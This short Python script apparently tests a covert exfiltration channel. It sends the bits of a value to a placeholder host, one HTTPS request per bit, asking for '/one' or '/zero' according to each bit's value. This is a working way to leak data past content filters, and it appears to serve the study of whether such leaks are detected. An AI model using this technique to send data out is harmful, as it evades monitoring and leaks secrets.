# tries: the value one bit at a time, as which of two addresses is asked for
# ends: documented
from lib import *

c = http.client.HTTPSConnection(HOST, PORT, timeout=10)
for byte in B[:2]:
    for i in range(8):
        c.request("GET", "/one" if byte >> i & 1 else "/zero")
        c.getresponse().read()
